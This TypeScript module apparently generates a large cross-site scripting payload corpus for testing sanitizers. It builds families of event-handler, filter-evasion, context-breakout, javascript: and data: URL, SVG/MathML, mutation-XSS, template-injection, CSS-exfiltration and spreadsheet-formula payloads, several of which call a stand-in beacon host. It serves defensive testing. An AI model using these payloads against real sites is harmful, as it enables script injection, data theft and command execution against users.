/**
 * Texts that run script, ask another host or lead away where a page takes them for markup, for an address, for a template or for
 * code. They are made by families: each way to write something, in each place where it may stand.
 */

/** Nothing of ours asks this host, so whoever does was told to by a payload. */
export const BEACON = "beacon.xss.example";

/** The page of a test has a function of this name, which tells the test that it was called. */
export const CALL = "__xss";

type Write = (call: string) => string;
const product = <A, B>(as: readonly A[], bs: readonly B[], write: (a: A, b: B) => Write): Write[] =>
  as.flatMap((a) => bs.map((b) => write(a, b)));

/** An element, and the attribute that makes it do something by itself. */
const ELEMENTS = [
  "img src=x",
  "svg",
  "body",
  "video src=x",
  "audio src=x",
  "input autofocus",
  "details open",
  "iframe src=about:blank",
  "object data=x",
  "a href=# tabindex=0",
  "div contenteditable tabindex=1",
  "x-own style=animation-name:a",
] as const;
const HANDLERS = [
  "onerror",
  "onload",
  "onclick",
  "onfocus",
  "onmouseover",
  "onpointerenter",
  "ontoggle",
  "onbeforetoggle",
  "onanimationstart",
  "ontransitionend",
  "onloadstart",
  "onscrollend",
  "onbegin",
  "oncopy",
] as const;
const handlers = product(
  ELEMENTS,
  HANDLERS,
  (element, handler) => (call) => `<${element} ${handler}=${call}>`,
);

/** The ways to write an attribute, by which a filter might miss it. */
const SPELLINGS: readonly Write[] = [
  (call) => `<img src=x onerror="${call}">`,
  (call) => `<img src=x onerror='${call}'>`,
  (call) => `<img src=x onerror=\`${call}\`>`,
  (call) => `<IMG SRC=x OnErRoR=${call}>`,
  (call) => `<img/src=x/onerror=${call}>`,
  (call) => `<img src=x onerror\t=\t${call}>`,
  (call) => `<img\nsrc=x\nonerror\n=\n${call}>`,
  (call) => `<img src=x onerror=${call.replace("(", "&#40;").replace(")", "&#x29;")}>`,
  (call) => `<img src=x onerror=&#${call.charCodeAt(0)};${call.slice(1)}>`,
  (call) => `<img src=x onerror=\\u005f${call.slice(1)}>`,
  (call) => `<img src=x onerror=window[${call.replace(/\((\d+)\)/, "`].call(0,$1)").replace("__", "`__")}>`,
  (call) => `<img src=x onerror=eval(atob('${btoa(call)}'))>`,
  (call) => `<img src=x onerror=Function(\`${call}\`)()>`,
  (call) => `<img src=x onerror=setTimeout(\`${call}\`)>`,
  (call) => `<<img src=x onerror=${call}>`,
  (call) => `<img src=x onerror=${call}//`,
  (call) => `<img """><img src=x onerror=${call}>">`,
  (call) => `<img src=x:x onerror=${call} `,
  (call) => `&lt;img src=x onerror=${call}&gt;`,
  (call) => `&amp;lt;img src=x onerror=${call}&amp;gt;`,
  (call) => `%3Cimg%20src%3Dx%20onerror%3D${encodeURIComponent(call)}%3E`,
  (call) => `\\u003cimg src=x onerror=${call}\\u003e`,
  (call) => `\\x3cimg src=x onerror=${call}\\x3e`,
  (call) => `+ADw-img src=x onerror=${call}+AD4-`,
];

/** What ends the place that a text stands in, before something that runs. */
const CLOSERS = [
  `">`,
  `'>`,
  "`>",
  `"/>`,
  "-->",
  "]]>",
  "</title>",
  "</textarea>",
  "</style>",
  "</script>",
  "</noscript>",
  "</template>",
  "</option></select>",
  "</td></tr></table>",
  "</svg>",
  `"></iframe>`,
] as const;
const VECTORS: readonly Write[] = [
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<script>${call}</script>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<script src=//${BEACON}/${call.length}.js></script>`,
];
const breakouts = product(CLOSERS, VECTORS, (closer, vector) => (call) => closer + vector(call));

/** Breaks out of an attribute and stays inside the tag. */
const inTag = product(
  [`"`, `'`, "`", " ", `\\"`, "&quot;"],
  ["onfocus", "onmouseover", "onpointerenter", "style=animation-name:a onanimationstart"],
  (quote, handler) => (call) => `x${quote} autofocus tabindex=1 ${handler}=${quote}${call}`,
);

const SCHEMES: readonly Write[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => ` javascript:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `java\nscript:${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `&#106;avascript:${call}`,
  (call) => `&#x6A&#x61&#x76&#x61script:${call}`,
  (call) => `java&Tab;script:${call}`,
  (call) => `javascript://x%0A${call}`,
  (call) => `javascript:/*x*/${call}`,
  (call) => `vbscript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `data:text/html;base64,${btoa(`<script>${call}</script>`)}`,
  (call) => `//${BEACON}/${call.length}`,
];
/** Each place that takes an address. */
const PLACES = [
  (url: string) => url,
  (url: string) => `<a href="${url}">x</a>`,
  (url: string) => `<iframe src="${url}"></iframe>`,
  (url: string) => `<form action="${url}"><input type=submit autofocus></form>`,
  (url: string) => `<object data="${url}"></object>`,
  (url: string) => `<embed src="${url}">`,
  (url: string) => `<svg><a xlink:href="${url}"><text y=9>x</text></a></svg>`,
  (url: string) => `<math href="${url}">x</math>`,
  (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url: string) => `[x](${url})`,
] as const;
const addresses = product(PLACES, SCHEMES, (place, scheme) => (call) => place(scheme(call)));

const FOREIGN: readonly Write[] = [
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><set onbegin=${call} attributeName=x to=1>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href=data:,${call} />`,
  (call) => `<svg><a><animate attributeName=href values=javascript:${call} /><text y=9>x</text></a>`,
  (call) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"/>`,
  (call) => `<svg><foreignObject><img src=x onerror=${call}></foreignObject>`,
  (call) => `<svg><style><img src=x onerror=${call}></style>`,
  (call) => `<svg><title><img src=x onerror=${call}></title>`,
  (call) => `<svg><desc><script>${call}</script></desc>`,
  (call) => `<svg><image href=x onerror=${call}>`,
  (call) => `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  (call) => `<math><maction actiontype=statusline xlink:href=javascript:${call}>x`,
  (call) => `<math><annotation-xml encoding=text/html><img src=x onerror=${call}>`,
  (call) => `<math><mi xlink:href="javascript:${call}">x</mi></math>`,
];

/** What is harmless as it is first read, and runs once it is written out and read again. */
const MUTATING: readonly Write[] = [
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${call}>">`,
  (call) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}></style></mglyph>`,
  (call) => `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  (call) => `<template><style></template><img src=x onerror=${call}></style>`,
  (call) => `<xmp><p title="</xmp><img src=x onerror=${call}>">`,
  (call) => `<noembed><p title="</noembed><img src=x onerror=${call}>">`,
  (call) => `<iframe><p title="</iframe><img src=x onerror=${call}>"></iframe>`,
  (call) => `<textarea><p title="</textarea><img src=x onerror=${call}>">`,
  (call) => `<select><style></select><img src=x onerror=${call}></style>`,
  (call) => `<table><td><svg><desc><td></desc></svg><img src=x onerror=${call}>`,
  (call) => `<a href="x&#x0a;y" title="&quot;><img src=x onerror=${call}>">x</a>`,
  (call) => `<!--><img src=x onerror=${call}>-->`,
  (call) => `<!--x--!><img src=x onerror=${call}>`,
  (call) => `<![CDATA[<img src=x onerror=${call}>]]>`,
  (call) => `<?x <img src=x onerror=${call}>?>`,
  (call) => `<style><style/><img src=x onerror=${call}>`,
  (call) => `<plaintext><img src=x onerror=${call}>`,
];

const TEMPLATES: readonly Write[] = [
  (call) => `{{${call}}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{{"x".constructor.constructor("${call}")()}}`,
  (call) => `{{ '<img src=x onerror=${call}>' }}`,
  (call) => `{{ "<script>${call}</script>" | raw }}`,
  (call) => `{% raw %}<img src=x onerror=${call}>{% endraw %}`,
  (call) => `{% assign x = "<svg onload=${call}>" %}{{ x }}`,
  (call) => `{%- capture x -%}<img src=x onerror=${call}>{%- endcapture -%}{{- x -}}`,
  (call) => `{{{<img src=x onerror=${call}>}}}`,
  (call) => `\${${call}}`,
  (call) => `#{${call}}`,
  (call) => `<%= ${call} %>`,
  (call) => `@(${call})`,
  (call) => `[[${call}]]`,
  (call) => `$t(nav.settings, { "defaultValue": "<img src=x onerror=${call}>" })`,
  (call) => `{{- name, <img src=x onerror=${call}> -}}`,
  (call) => `{{count, number}} $t(do.close) <img src=x onerror=${call}>`,
  (call) => `{ICU, plural, other {<img src=x onerror=${call}>}}`,
  (call) => `<div v-html="'<img src=x onerror=${call}>'" ng-app ng-init="${call}" x-data x-init="${call}">`,
  (call) => `<p dangerouslySetInnerHTML={{__html: "<img src=x onerror=${call}>"}} />`,
];

const STYLES: readonly Write[] = [
  () => `<style>@import url(//${BEACON}/1.css);</style>`,
  () => `<style>*{background:url(//${BEACON}/2)}</style>`,
  () => `<style>@font-face{font-family:x;src:url(//${BEACON}/3)}*{font-family:x}</style>`,
  () => `<style>input[value^=a]{background:url(//${BEACON}/4)}</style>`,
  () => `<link rel=stylesheet href=//${BEACON}/5.css>`,
  () => `<link rel=preload as=script href=//${BEACON}/6.js>`,
  () => `<link rel=prefetch href=//${BEACON}/7>`,
  () => `<link rel="dns-prefetch preconnect" href=//${BEACON}>`,
  () => `<div style="background:url(//${BEACON}/8)">`,
  () => `<div style="position:fixed;inset:0;z-index:99999">covered</div>`,
  () => `red;background:url(//${BEACON}/9)`,
  () => `#fff"}*{background:url(//${BEACON}/10)}`,
  (call) => `<div style="width:expression(${call})">`,
  (call) => `<div style="behavior:url(javascript:${call})">`,
  (call) => `<style>a{b:"</style><img src=x onerror=${call}>"}</style>`,
  (call) => `}</style><script>${call}</script><style>{`,
];

const DOCUMENTS: readonly Write[] = [
  () => `<base href=//${BEACON}/>`,
  () => `<base target=_top><a href=//${BEACON}/11>x</a>`,
  () => `<meta http-equiv=refresh content=0;//${BEACON}/12>`,
  () => `<meta http-equiv=content-security-policy content="script-src *">`,
  () => `<meta charset=utf-7>+ADw-script src=//${BEACON}/13.js+AD4-`,
  () => `<iframe src=//${BEACON}/14></iframe>`,
  () => `<form action=//${BEACON}/15 id=x></form><button form=x autofocus>x</button>`,
  () => `<input type=image src=//${BEACON}/16 formaction=//${BEACON}/17>`,
  () => `<script type=module src=//${BEACON}/18.js></script>`,
  () => `<script nomodule src=//${BEACON}/19.js></script>`,
  () => `<img src=//${BEACON}/20 srcset="//${BEACON}/21 2x">`,
  () => `<video poster=//${BEACON}/22><source src=//${BEACON}/23></video>`,
  () => `<audio src=//${BEACON}/24 autoplay>`,
  () => `<object type=text/html data=//${BEACON}/25></object>`,
  () => `<embed src=//${BEACON}/26>`,
  () => `<portal src=//${BEACON}/27></portal>`,
  () => `<a ping=//${BEACON}/28 href=#>x</a>`,
  () => `<table background=//${BEACON}/29><tr><td>x</table>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe srcdoc='&lt;img src=x onerror=top.${call}&gt;'></iframe>`,
  (call) => `<script>${call}</script>`,
  (call) => `<script\n>${call}</script >`,
  (call) => `<ScRiPt>${call}</sCrIpT>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<script>/*</script><script>*/${call}</script>`,
  (call) => `<script type=text/javascript>${call}</script>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
];

const CODE: readonly Write[] = [
  (call) => `';${call}//`,
  (call) => `";${call}//`,
  (call) => `\`;${call}//`,
  (call) => `\\';${call}//`,
  (call) => `"-${call}-"`,
  (call) => `'+${call}+'`,
  (call) => `"}];${call};[{"`,
  (call) => `*/${call}/*`,
  (call) => `\u2028${call}//`,
  (call) => `\u2029${call}//`,
  (call) => `</script><script>${call}//`,
  (call) => `"]},"__html":"<img src=x onerror=${call}>"`,
  (call) => `=HYPERLINK("javascript:${call}","x")`,
  () => `=IMPORTXML("http://${BEACON}/30","//a")`,
  () => `@SUM(1+1)*cmd|' /C calc'!A0`,
];

/** Names that mean something to every object, and letters that look like others, are not seen or turn what follows around. */
const NAMES: readonly Write[] = [
  ...[
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "valueOf",
    "hasOwnProperty",
    "__defineGetter__",
  ].map((name) => (call: string) => `${name} <img src=x onerror=${call}>`),
  () => "__proto__",
  () => "constructor",
  () => "toString",
  (call) => `\u202E<img src=x onerror=${call}>`,
  (call) => `\u2066<script>${call}</script>\u2069`,
  (call) => `<\u200Bimg src=x onerror=${call}>`,
  (call) => `<\uFEFFscript>${call}</script>`,
  (call) => `\uFF1Cimg src=x onerror=${call}\uFF1E`,
  (call) => `\u2039script\u203A${call}\u2039/script\u203A`,
  (call) => `<img src=x on\u0131error=${call}>`,
  (call) => `<\u017Fcript>${call}</\u017Fcript>`,
  (call) => `<svg/on\u00ADload=${call}>`,
  (call) => `\u0430<img src=x onerror=${call}>\u0301\u0301\u0301`,
];

const FAMILIES = [
  handlers,
  SPELLINGS,
  breakouts,
  inTag,
  addresses,
  FOREIGN,
  MUTATING,
  TEMPLATES,
  STYLES,
  DOCUMENTS,
  CODE,
  NAMES,
];

/** All of them, each once. Each calls with a number of its own, which says which one ran. */
export const PAYLOADS: readonly string[] = [
  ...new Set(FAMILIES.flat().map((write, number) => write(`${CALL}(${number})`))),
];

/** Without line ends, control characters and changes of direction, for what is one line of text: a name with these is refused. */
export const ONE_LINE: readonly string[] = PAYLOADS.map((text) =>
  text.replaceAll(/[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/gu, " "),
);

/** All of them in few texts of at most this many characters; one that is longer by itself is cut off. */
export function pack(payloads: readonly string[], longest: number): string[] {
  const texts: string[] = [];
  let text = "";
  for (const payload of payloads) {
    const next = text === "" ? payload : `${text} ${payload}`;
    if (next.length <= longest) {
      text = next;
      continue;
    }
    if (text !== "") texts.push(text);
    text = payload.slice(0, longest).toWellFormed();
  }
  return [...texts, text];
}
